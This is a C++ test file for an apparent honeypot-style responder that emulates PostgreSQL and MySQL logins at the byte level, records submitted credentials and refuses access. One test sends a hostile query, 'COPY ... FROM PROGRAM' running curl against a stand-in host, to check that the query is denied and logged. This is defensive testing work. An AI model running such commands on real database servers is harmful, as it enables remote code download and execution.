// PostgreSQL and MySQL: logins, exact bytes.
#include <doctest/doctest.h>

#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

std::string start(const std::string& user) {
  const std::string body = std::string("\0\3\0\0user\0", 9) + user + std::string("\0\0", 2);
  return std::string("\0\0\0", 3) + static_cast<char>(body.size() + 4) + body;
}
std::string message(char type, const std::string& text) {
  return std::string(1, type) + std::string("\0\0\0", 3) + static_cast<char>(text.size() + 5) + text +
         std::string(1, '\0');
}

TEST_CASE("Respond postgresql_asks_in_the_clear_and_permits_nothing") {
  const std::string ask("R\0\0\0\x08\0\0\0\3", 9);
  const Spoken refused =
      speak(SessionProtocol::postgresql, {std::string("\0\0\0\x08\x04\xd2\x16\x2f", 8) + start("postgres") +
                                          message('p', test_password("postgres", false))});
  CHECK(refused.answered.starts_with("N" + ask + "E"));
  CHECK(refused.session.end == SessionEnd::by_responder);
  const Spoken accepted =
      speak(SessionProtocol::postgresql, {start("postgres") + message('p', test_password("postgres", true)) +
                                          message('Q', "copy x from PROGRAM 'curl http://192.0.2.8/p'")});
  CHECK(accepted.answered.starts_with(ask + std::string("R\0\0\0\x08\0\0\0\0S", 10)));
  CHECK(accepted.answered.ends_with(std::string("permission denied\0\0Z\0\0\0\5I", 25)));
  CHECK(accepted.session.addresses_named == std::vector<std::string>{"http://192.0.2.8/p"});
  CHECK(accepted.session.credentials[0].accepted);
}

TEST_CASE("Respond postgresql_refuses_lengths_that_cannot_be") {
  for (const std::string& bytes : {std::string("\0\0\0\3", 4), std::string("\xff\xff\xff\xff", 4),
                                   std::string("\0\0\0\x08\0\0\0\1", 8)}) {
    CHECK(speak(SessionProtocol::postgresql, {bytes}).session.end == SessionEnd::malformed);
  }
}

TEST_CASE("Respond mysql_records_challenge_and_answer_and_refuses") {
  const Spoken spoken = speak(SessionProtocol::mysql, {std::string("\x28\0\0\1", 4) + std::string(32, 'c') +
                                                       std::string("root\0\2ab", 8)});
  REQUIRE(spoken.session.credentials.size() == 1);
  CHECK(spoken.session.credentials[0].user == "root");
  CHECK(spoken.session.credentials[0].password.starts_with("$mysqlna$"));
  CHECK(spoken.session.credentials[0].password.ends_with("*6162"));
  CHECK_FALSE(spoken.session.credentials[0].accepted);
  const std::size_t greeting = static_cast<std::uint8_t>(spoken.answered[0]) + 4u;
  CHECK(spoken.answered.substr(4, 7) ==
        "\x0a"
        "5.7.33");
  CHECK(spoken.answered.substr(greeting) == std::string("\x16\0\0\2\xff\x15\x04#28000Access denied", 26));
}

}  // namespace
}  // namespace hinomi::observe
